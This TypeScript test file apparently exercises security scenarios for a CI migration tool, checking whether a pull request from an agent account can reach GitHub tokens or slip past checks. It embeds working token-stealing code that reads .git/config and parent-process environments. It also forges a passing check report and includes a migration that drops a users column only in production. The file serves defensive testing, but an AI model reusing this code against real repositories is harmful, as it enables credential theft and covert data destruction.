import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { edit, SIMPLE } from '../../unit/doctor/github/worlds.ts'
import { ACCOUNTS } from '../github/index.ts'
import { HardenedScene } from '../hardened.ts'
import { tryToMerge } from './merge.ts'
import { AGENT, BASE, type Target, type Variant } from './target.ts'

/** Code of the pull request, run as its tests, looks for the job's token: on the disk, and in what started it. */
const THIEF = `
const { readFileSync, writeFileSync } = require('node:fs')
const read = (path) => { try { return readFileSync(path, 'utf8') } catch { return '' } }
const found = [read('.git/config')]
let pid = process.ppid
for (let up = 0; up < 8 && pid > 1; up++) {
  const environ = read('/proc/' + pid + '/environ')
  if (!environ.includes('GITHUB_ACTIONS') && !environ.includes('RUNNER_TRACKING_ID')) break
  found.push(environ)
  pid = Number(read('/proc/' + pid + '/stat').split(') ')[1]?.split(' ')[1] ?? 0)
}
const token = (text) => /ghs_\\w+/.exec(text)?.[0] ?? ''
writeFileSync(process.argv[2], JSON.stringify({ disk: token(found[0]), above: token(found.slice(1).join('\\n')) }))
`
interface Loot {
  readonly disk: string
  readonly above: string
}

/** Opens an agent's pull request whose tests are the thief; what it found, before anybody approved anything. */
async function steal(target: Target, remember: boolean): Promise<{ number: number; loot: Loot }> {
  const { scene } = target
  const place = join(scene.cache, 'loot.json')
  const number = await target.open({ user: AGENT }, [{ path: 'thief.cjs', sql: THIEF }])
  if (remember)
    await scene.repository.git(
      'config',
      'http.extraheader',
      `AUTHORIZATION: bearer ${target.tokens.workflow}`,
    )
  const ran = await target.pull(number, 'opened', { inputs: { test: `node thief.cjs ${place}` } })
  if (ran.main.conclusion !== 'success') throw new Error(ran.log)
  return { number, loot: JSON.parse(await readFile(place, 'utf8')) as Loot }
}

const KEPT = edit(SIMPLE, 'offshoot.yml', 'persist-credentials: false', 'persist-credentials: true')

/** Code of a pull request runs, and what is in its reach. */
export const TOKEN_FROM_DISK: readonly Variant[] = [
  {
    how: 'the checkout left it in .git/config',
    engine: 'postgres',
    run: async (target) => {
      target.workflows(edit(KEPT, 'offshoot.yml', 'contents: read', 'contents: write'))
      const { number, loot } = await steal(target, true)
      await target.forge(number, { token: loot.disk })
      return await target.passes(['credentials-not-kept', 'permissions'], target.ends(number))
    },
  },
  {
    how: 'the checkout left nothing, but the job that runs it holds one',
    engine: 'postgres',
    run: async (target) => {
      target.workflows(SIMPLE)
      const { number, loot } = await steal(target, false)
      if (loot.disk !== '') throw new Error('there is a token on the disk')
      await target.forge(number, { token: loot.above })
      return await target.passes(['isolated-code'], target.ends(number))
    },
  },
  {
    how: 'the hardened set-up, whose job with its code holds none',
    run: async (target) => {
      const loot = await stealInHardened(target)
      const why = 'no token is on the disk or in the job'
      return loot.disk === '' && loot.above === ''
        ? { ends: 'blocked', why, told: [] }
        : await target.taken([])
    },
  },
]

async function stealInHardened(target: Target): Promise<Loot> {
  const place = join(target.scene.cache, 'loot.json')
  const tests = `{ "private": true, "scripts": { "test": "node thief.cjs ${place}" } }\n`
  await using scene = await HardenedScene.create([...BASE, { path: 'package.json', sql: tests }])
  const number = await scene.open([{ path: 'thief.cjs', sql: THIEF }], { user: AGENT })
  await scene.pull(number, 'opened')
  return JSON.parse(await readFile(place, 'utf8')) as Loot
}

export const AGENT_STARTS_WORKFLOWS: readonly Variant[] = [
  {
    how: 'its code runs before anybody looked, beside a token that writes',
    engine: 'postgres',
    run: async (target) => {
      target.workflows(edit(SIMPLE, 'offshoot.yml', 'contents: read', 'contents: write'))
      const { loot } = await steal(target, false)
      if (loot.above === '') return { ends: 'blocked', why: 'it found nothing', told: [] }
      return await target.taken(['forks-wait', 'isolated-code', 'permissions'])
    },
  },
  {
    how: 'from a fork, whose runs get no secret: it is given no branch, and has to wait',
    run: async (target) => {
      const number = await target.open({ user: AGENT, headRepository: 'fork' }, [
        { path: 'migrations/0002.sql', sql: 'select 1;\n' },
      ])
      await target.pull(number, 'opened', { inputs: { provider: 'postgres', url: '' } })
      return target.ends(number)
    },
  },
]

const HOSTILE = [
  {
    path: 'migrations/0002.sql',
    sql: `do $$ begin
  if current_database() = 'shop' then execute 'alter table users drop column email'; end if;
end $$;\n`,
  },
]

/** What a job with code of the pull request says is what that code wants it to say. */
export const FORGED_REPORT: readonly Variant[] = [
  {
    how: 'a report that passes, beside a migration that fails, in the hardened set-up',
    run: async () => {
      await using scene = await HardenedScene.create(BASE)
      scene.github.settings.require(['offshoot/database', 'offshoot/approval'])
      const number = await scene.open([{ path: 'migrations/0002.sql', sql: 'select 1/0;\n' }])
      scene.afterCheck = async (path) => {
        const report = JSON.parse(await readFile(path, 'utf8')) as object
        const forged = { ...report, verdict: 'passed', failure: undefined, migrations: [] }
        await writeFile(path, JSON.stringify(forged))
      }
      await scene.pull(number, 'opened')
      const { merges, obstacles } = tryToMerge(scene.github, number)
      return { ends: merges ? 'through' : 'blocked', why: obstacles.join('; '), told: [] }
    },
  },
  {
    how: 'a migration that is harmless until it runs in production, where only a loss has to be approved',
    engine: 'postgres',
    run: async (target) => {
      target.workflows(SIMPLE)
      const number = await target.open({ user: ACCOUNTS.alice }, HOSTILE)
      await target.pull(number, 'opened', { inputs: { approval: '- when: destructive' } })
      const ids = ['measurements-of-hostile-code', 'isolated-code'] as const
      return await target.passes(ids, target.ends(number))
    },
  },
  {
    how: 'a migration that says what it does, so that the gate above is seen to hold',
    engine: 'postgres',
    run: async (target) => {
      const sql = 'alter table users drop column email;\n'
      const number = await target.open({ user: ACCOUNTS.alice }, [{ path: 'migrations/0002.sql', sql }])
      await target.pull(number, 'opened', { inputs: { approval: '- when: destructive' } })
      return target.ends(number)
    },
  },
]
